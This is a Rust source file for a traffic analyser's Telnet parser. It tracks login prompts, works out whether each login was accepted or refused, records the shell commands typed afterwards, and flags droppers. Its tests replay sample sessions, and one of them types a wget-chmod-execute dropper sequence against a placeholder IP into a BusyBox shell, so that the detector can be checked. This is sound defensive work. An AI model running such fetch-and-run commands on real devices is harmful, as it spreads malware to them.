//! Telnet (RFC 854): logins by their prompts, what is typed into a shell behind them.
//!
//! Telnet has no messages for a login: what a server says at the end of its output is a prompt, a line of the client answers it, and
//! the words (or the prompt) that follow tell what came of it. All is judged when a line ends or the client answers, so that it
//! does not matter how the bytes were cut.

mod dropper;
mod options;

use crate::model::class::Class;
use crate::model::stream::{Chunk, Side};
use crate::protocol::found::{At, Login, Oddity};
use crate::protocol::lines::{account_of, mentions};
use crate::protocol::telnet::dropper::Dropper;
use crate::protocol::telnet::options::{Cleaner, is_negotiation};
use crate::protocol::{Opening, Parser, ProtocolRow, Recognition, Sink};

/// Its row of the table.
pub const ROW: ProtocolRow =
    ProtocolRow { name: "telnet", recognise, start, counter: None, oddities: &[&DROPPER] };

/// What bots type once they are in.
const DROPPER: Oddity = Oddity {
    id: "telnet.dropper",
    class: Class::ExploitService,
    weight: 0.95,
    title: "Program fetched, made executable and started from a shell over Telnet",
};

/// Bytes kept of a line that a client types: droppers need some hundreds.
const TYPED_MAX_BYTES: usize = 4 << 10;
/// Capacity that is kept for the next line.
const TYPED_KEPT_BYTES: usize = 256;
/// Bytes kept of a line that a server shows, its end: prompts and refusals are short.
const SHOWN_MAX_BYTES: usize = 256;

/// Ends of a line that ask for a name. `Last login:` is none.
const NAME_PROMPTS: [&str; 5] = ["login:", "username:", "user name:", "user:", "account:"];
/// Ends of a line that ask for a secret.
const SECRET_PROMPTS: [&str; 3] = ["password:", "passwd:", "passcode:"];
/// Ends of a line at which a shell waits.
const SHELL_PROMPTS: [&[u8]; 4] = [b"$", b"#", b">", b"%"];
/// Words of a line by which a server lets somebody in; looked for first, since login tells of `failed` tries then.
const WELCOMES: [&str; 5] = ["last login", "last failed login", "since the last", "welcome", "busybox v"];
/// Words of a line by which a server refuses.
const REFUSALS: [&str; 10] = [
    "incorrect",
    "failed",
    "failure",
    "denied",
    "invalid",
    "bad password",
    "wrong",
    "bad user",
    "exceeded",
    "too many",
];

/// Either side begins with a negotiation (RFC 854), or the server shows a prompt.
fn recognise(opening: &Opening<'_>) -> Recognition {
    let sides = [opening.client, opening.server].map(is_negotiation);
    if sides.contains(&Recognition::Yes) {
        return Recognition::Yes;
    }
    // Other servers greet with a number, a sign or their name; none asks for a name at the end of its greeting.
    if matches!(prompt(last_line(opening.server)), Prompt::Name | Prompt::Secret) {
        return Recognition::Yes;
    }
    let server_may_ask =
        opening.server.iter().all(|byte| byte.is_ascii_graphic() || byte.is_ascii_whitespace());
    if sides.contains(&Recognition::More) || opening.client.is_empty() && server_may_ask {
        Recognition::More
    } else {
        Recognition::No
    }
}

fn last_line(bytes: &[u8]) -> &[u8] {
    bytes.rsplit(|byte| matches!(byte, b'\n' | b'\r')).next().unwrap_or_default()
}

fn start() -> Box<dyn Parser> {
    Box::new(Telnet::default())
}

/// What the end of a server's output asks for.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
enum Prompt {
    Name,
    None,
    Secret,
    Shell,
}

fn prompt(line: &[u8]) -> Prompt {
    let line = line.trim_ascii();
    let asks = |ends: &[&str]| {
        ends.iter().any(|end| {
            line.len()
                .checked_sub(end.len())
                .and_then(|at| line.get(at..))
                .is_some_and(|tail| tail.eq_ignore_ascii_case(end.as_bytes()))
        })
    };
    if asks(&SECRET_PROMPTS) {
        Prompt::Secret
    } else if asks(&NAME_PROMPTS) && !mentions(line, "last ") {
        Prompt::Name
    } else if SHELL_PROMPTS.iter().any(|end| line.ends_with(end)) {
        Prompt::Shell
    } else {
        Prompt::None
    }
}

/// A secret whose fate is not known.
#[derive(Debug)]
struct Pending {
    at: At,
    account: Option<Box<[u8]>>,
}

#[derive(Debug, Default)]
struct Telnet {
    client: Cleaner,
    server: Cleaner,
    /// What the client has typed of a line.
    typed: Vec<u8>,
    /// Where the line began.
    typed_at: At,
    /// The last line of the server, as far as it came.
    shown: Vec<u8>,
    /// What the line asks for that is being typed.
    asked: Option<Prompt>,
    /// What the client answered last, until the server says more.
    answered: Option<Prompt>,
    /// Whether the last byte typed was a CR: the LF or NUL after it belongs to it (RFC 854).
    after_return: bool,
    account: Option<Box<[u8]>>,
    pending: Option<Pending>,
    /// Whether the client was let in.
    is_inside: bool,
    dropper: Dropper,
}

impl Parser for Telnet {
    fn data(&mut self, from: Side, chunk: &Chunk<'_>, sink: &mut dyn Sink) {
        let at = At::of(chunk);
        if from == Side::Client && !self.typed.is_empty() {
            self.typed_at.frames = self.typed_at.frames.saturating_add(1);
        }
        for (index, byte) in chunk.bytes.iter().copied().enumerate() {
            match from {
                Side::Client => {
                    if let Some(byte) = self.client.clean(byte) {
                        self.typed(byte, at.plus(index), sink);
                    }
                }
                Side::Server => {
                    if let Some(byte) = self.server.clean(byte) {
                        self.shown(byte, sink);
                    }
                }
            }
        }
    }

    fn gap(&mut self, from: Side, _: u64, _: &mut dyn Sink) {
        match from {
            Side::Client => (self.client, self.typed, self.account) = (Cleaner::Text, Vec::new(), None),
            Side::Server => (self.server, self.shown) = (Cleaner::Text, Vec::new()),
        }
        self.pending = None;
        // What the rest of a line answers is not known: it may be a secret.
        (self.asked, self.answered) = (Some(Prompt::None), None);
        self.is_inside = false;
    }

    fn closed(&mut self, _: Side, sink: &mut dyn Sink) {
        self.settle_by_prompt(sink);
    }

    fn held(&self) -> usize {
        size_of::<Self>() + self.typed.capacity() + self.shown.capacity()
    }
}

impl Telnet {
    fn typed(&mut self, byte: u8, at: At, sink: &mut dyn Sink) {
        let is_second = std::mem::replace(&mut self.after_return, byte == b'\r') && matches!(byte, b'\n' | 0);
        if is_second {
            return;
        }
        if self.asked.is_none() {
            self.begin_line(at, sink);
        }
        match byte {
            b'\r' | b'\n' => self.end_line(sink),
            8 | 127 => _ = self.typed.pop(),
            _ if self.typed.len() < TYPED_MAX_BYTES => self.typed.push(byte),
            _ => {}
        }
    }

    /// What a line answers is read before its echo hides it.
    fn begin_line(&mut self, at: At, sink: &mut dyn Sink) {
        self.settle_by_prompt(sink);
        self.typed_at = at;
        self.asked = Some(match self.answered {
            None => prompt(&self.shown),
            // Typed ahead: the secret follows the name.
            Some(Prompt::Name) => Prompt::Secret,
            Some(_) => Prompt::None,
        });
    }

    fn end_line(&mut self, sink: &mut dyn Sink) {
        let mut line = std::mem::take(&mut self.typed);
        let asked = self.asked.take().unwrap_or(Prompt::None);
        let at = self.typed_at;
        self.answered = Some(asked);
        match asked {
            Prompt::Name => {
                self.account = account_of(&line);
                sink.text(&at, "user", &line);
            }
            Prompt::Secret => self.pending = Some(Pending { at, account: self.account.clone() }),
            Prompt::Shell | Prompt::None if self.is_inside || asked == Prompt::Shell => {
                self.is_inside = true;
                self.command(&at, &line, sink);
            }
            Prompt::Shell | Prompt::None => {}
        }
        // It may have been a password.
        line.fill(0);
        line.clear();
        line.shrink_to(TYPED_KEPT_BYTES);
        self.typed = line;
    }

    fn command(&mut self, at: &At, line: &[u8], sink: &mut dyn Sink) {
        if line.is_empty() {
            return;
        }
        if self.dropper.is_complete_with(line) {
            sink.oddity(at, &DROPPER, line);
        } else {
            sink.text(at, "shell", line);
        }
    }

    fn shown(&mut self, byte: u8, sink: &mut dyn Sink) {
        if matches!(byte, b'\r' | b'\n') {
            self.settle_by_words(sink);
            self.shown.clear();
            return;
        }
        if byte.is_ascii_graphic() {
            self.answered = None;
        }
        if self.shown.len() >= SHOWN_MAX_BYTES {
            self.shown.drain(..SHOWN_MAX_BYTES / 2);
        }
        self.shown.push(byte);
    }

    /// A line of the server has ended.
    fn settle_by_words(&mut self, sink: &mut dyn Sink) {
        if self.pending.is_none() {
            return;
        }
        let says = |words: &[&str]| words.iter().any(|word| mentions(&self.shown, word));
        if says(&WELCOMES) {
            self.settle(Fate::Accepted, sink);
        } else if says(&REFUSALS) {
            self.settle(Fate::Refused, sink);
        }
    }

    /// The server waits again: who is asked once more was refused, who sees a shell was not.
    fn settle_by_prompt(&mut self, sink: &mut dyn Sink) {
        if self.pending.is_none() || self.answered.is_some() {
            return;
        }
        match prompt(&self.shown) {
            Prompt::Name | Prompt::Secret => self.settle(Fate::Refused, sink),
            Prompt::Shell => self.settle(Fate::Accepted, sink),
            Prompt::None => {}
        }
    }

    fn settle(&mut self, fate: Fate, sink: &mut dyn Sink) {
        let Some(Pending { at, account }) = self.pending.take() else { return };
        let accepted = fate == Fate::Accepted;
        self.is_inside |= accepted;
        let account = account.as_deref();
        sink.login(&at, &Login { class: Class::AuthTelnet, account, accepted, inferred: false });
    }
}

#[derive(Clone, Copy, Debug, Eq, PartialEq)]
enum Fate {
    Accepted,
    Refused,
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::protocol::played::{C, S, any_acts, survives, talk, talk_all_ways};

    const NEGOTIATION: (Side, &[u8]) = (S, b"\xff\xfd\x18\xff\xfd\x20");
    const ASKED: (Side, &[u8]) = (S, b"\r\nDebian GNU/Linux 12\r\n\r\nhost login: ");

    fn login(name: &str, accepted: bool) -> (Class, String, bool) {
        (Class::AuthTelnet, name.to_owned(), accepted)
    }

    #[test]
    fn refusals_and_the_success_after_them_are_told_and_commands_follow() {
        let heard = talk_all_ways(&[
            NEGOTIATION,
            (C, b"\xff\xfb\x18\xff\xfc\x20"),
            ASKED,
            (C, b"root\r\n"),
            (S, b"root\r\nPassword: "),
            (C, b"hunter1\r\n"),
            (S, b"\r\n\r\nLogin incorrect\r\nhost login: "),
            (C, b"ro\x7foot\r\0"),
            (S, b"root\r\nPassword: "),
            (C, b"\r\0"),
            (S, b"\r\n\r\nLogin incorrect\r\nhost login: "),
            (C, b"root\r\n"),
            (S, b"root\r\nPassword: "),
            (C, b"right\r\n"),
            (S, b"\r\nLast failed login: today\r\nLast login: never\r\n$ "),
            (C, b"uptime\r\n"),
            (S, b"uptime\r\n up 1 day\r\n$ "),
        ]);
        assert_eq!(heard.app, Some("telnet"));
        assert_eq!(heard.logins, [login("root", false), login("root", false), login("root", true)]);
        assert_eq!(heard.texts, ["user=root", "user=root", "user=root", "shell=uptime"]);
    }

    #[test]
    fn prompts_alone_tell_where_a_device_has_no_words() {
        let heard = talk_all_ways(&[
            (S, b"Username: "),
            (C, b"admin\r\n"),
            (S, b"Password: "),
            (C, b"a\r\n"),
            (S, b"\r\nUsername: "),
            (C, b"admin\r\n"),
            (S, b"Password: "),
            (C, b"b\r\n"),
            (S, b"\r\nrouter# "),
            (C, b"show version\n"),
        ]);
        assert_eq!(heard.logins, [login("admin", false), login("admin", true)]);
        assert_eq!(heard.texts.last().unwrap(), "shell=show version");
        // A prompt at the end of the conversation tells too.
        let heard = talk_all_ways(&[(S, b"Password: "), (C, b"a\r\n"), (S, b"\r\nPassword: ")]);
        assert_eq!(heard.logins, [login("", false)]);
    }

    #[test]
    fn what_is_typed_ahead_is_never_told_as_text() {
        let heard = talk_all_ways(&[
            ASKED,
            (C, b"root\r\nhunter1\r\nenable\r\n"),
            (S, b"root\r\nPassword: \r\nLogin incorrect\r\n"),
        ]);
        assert_eq!(heard.logins, [login("root", false)]);
        assert_eq!(heard.texts, ["user=root"]);
    }

    #[test]
    fn a_characterwise_session_with_echo_is_read_as_one_by_lines() {
        let mut dialogue = vec![ASKED];
        for byte in [&b"r"[..], b"o", b"o", b"t"] {
            dialogue.extend([(C, byte), (S, byte)]);
        }
        let rest: &[(Side, &[u8])] = &[
            (C, b"\r\0"),
            (S, b"\r\nPassword: "),
            (C, b"x"),
            (C, b"y"),
            (C, b"\r\0"),
            (S, b"\r\nLogin incorrect\r\n"),
        ];
        dialogue.extend(rest);
        assert_eq!(talk_all_ways(&dialogue).logins, [login("root", false)]);
    }

    #[test]
    fn a_dropper_typed_in_a_shell_is_one_oddity() {
        let heard = talk_all_ways(&[
            NEGOTIATION,
            (S, b"BusyBox v1.2\r\n# "),
            (C, b"wget http://192.0.2.9/a -O a\r\n"),
            (S, b"# "),
            (C, b"chmod 777 a\r\n"),
            (S, b"# "),
            (C, b"./a\r\n"),
        ]);
        assert_eq!(heard.odd(), [DROPPER.id]);
        assert_eq!(heard.texts.len(), 2);
    }

    #[test]
    fn other_greetings_are_not_taken_for_a_prompt() {
        for server in [&b"SSH-2.0-OpenSSH_9.2\r\n"[..], b"Last login: ", b"\x05\x00\x00\x00\x0a8.0"] {
            assert_ne!(talk(&[(S, server)], 23, 99).app, Some("telnet"));
        }
    }

    proptest::proptest! {
        #[test]
        fn any_bytes_are_survived(acts in any_acts()) {
            survives(start(), &[b"login: ", b"Password: ", b"root\r\n", b"Login incorrect\r\n", b"# ", b"\xff\xfa"], &acts);
        }
    }
}
